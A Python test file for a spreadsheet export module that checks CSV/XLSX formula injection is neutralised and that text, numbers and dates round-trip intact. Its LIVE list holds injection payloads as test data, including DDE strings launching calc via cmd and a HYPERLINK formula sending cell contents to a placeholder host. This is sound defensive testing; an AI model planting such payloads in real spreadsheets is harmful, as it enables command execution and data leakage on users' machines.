"""What goes out can't run, and comes back as it was (promise 17)."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime, time
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from polku.exchange.sheets import open_sheet
from polku.exchange.sheets.defuse import OutColumn, csv_lines, write_xlsx
from polku.exchange.sheets.live_text import could_run, defused

LIVE = [
    "=cmd|'/C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "  =1+1",
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "|calc",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"x")',
    "+358401234567+cmd|'/C calc'!A0",
]
HARMLESS = ["+358401234567", "+358 40 123 4567", "-5", "-5,5", "+7", "Haapa", "'abc", "O'Brien", ""]
COLUMNS = [OutColumn("Sukunimi"), OutColumn("Etunimi"), OutColumn("Huom")]


def as_xlsx(rows: list[list[Any]]) -> bytes:
    out = io.BytesIO()
    assert write_xlsx(rows, COLUMNS, out) == len(rows)
    return out.getvalue()


def as_csv(rows: list[list[Any]]) -> bytes:
    return "".join(csv_lines(rows, COLUMNS)).encode("utf-8", "surrogatepass")


def back(data: bytes) -> list[tuple[Any, ...]]:
    return [row.cells for row in open_sheet(data, "x").rows()][1:]


@pytest.mark.parametrize("text", LIVE)
def test_text_that_could_run_is_defused(text: str) -> None:
    assert could_run(text)
    sheet = zipfile.ZipFile(io.BytesIO(as_xlsx([[text, "x", text]]))).read(
        "xl/worksheets/sheet1.xml"
    )
    assert b"<f>" not in sheet
    cell = openpyxl.load_workbook(io.BytesIO(as_xlsx([["x", text, "x"]]))).active["B2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert "".join(csv_lines([["x", text]], COLUMNS)).split(";")[-1].lstrip('"').startswith("'")


def test_the_control_openpyxl_alone_would_write_a_live_formula() -> None:
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    out = io.BytesIO()
    book.save(out)
    assert b"<f>" in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", HARMLESS)
def test_phones_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("text", [*LIVE, *filter(None, HARMLESS)])
def test_every_text_comes_back_from_xlsx(text: str) -> None:
    assert back(as_xlsx([["x", text, "y"]])) == [("x", text, "y")]


@pytest.mark.parametrize(
    "text", [text for text in [*LIVE, *filter(None, HARMLESS)] if "\r" not in text]
)
def test_every_text_comes_back_from_csv(text: str) -> None:
    assert back(as_csv([["x", text, "y"]])) == [("x", text, "y")]


TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r"), min_size=1)


@settings(max_examples=300, deadline=None)
@given(TEXT.filter(lambda text: not text.isspace()))
def test_any_text_comes_back_from_both(text: str) -> None:
    assert back(as_xlsx([["x", text, "y"]])) == [("x", text, "y")]
    assert back(as_csv([["x", text, "y"]])) == [("x", text, "y")]


def test_typed_values_come_back_typed_from_xlsx() -> None:
    row = [-5, 2.5, date(2027, 2, 1)]
    assert back(as_xlsx([row, [datetime(2027, 2, 1, 9, 30), time(9, 30), True]])) == [
        tuple(row),
        (datetime(2027, 2, 1, 9, 30), time(9, 30), True),
    ]


def test_csv_is_what_finnish_excel_opens() -> None:
    text = "".join(csv_lines([[-5, 2.5, date(2027, 2, 1)]], COLUMNS))
    assert text == "\ufeffSukunimi;Etunimi;Huom\r\n-5;2,5;1.2.2027\r\n"


def test_a_text_longer_than_a_cell_is_cut_and_shows_it() -> None:
    ((_, text, _),) = back(as_xlsx([["x", "ä" * 40_000, "y"]]))
    assert len(text) == 32_767 and text.endswith("…")
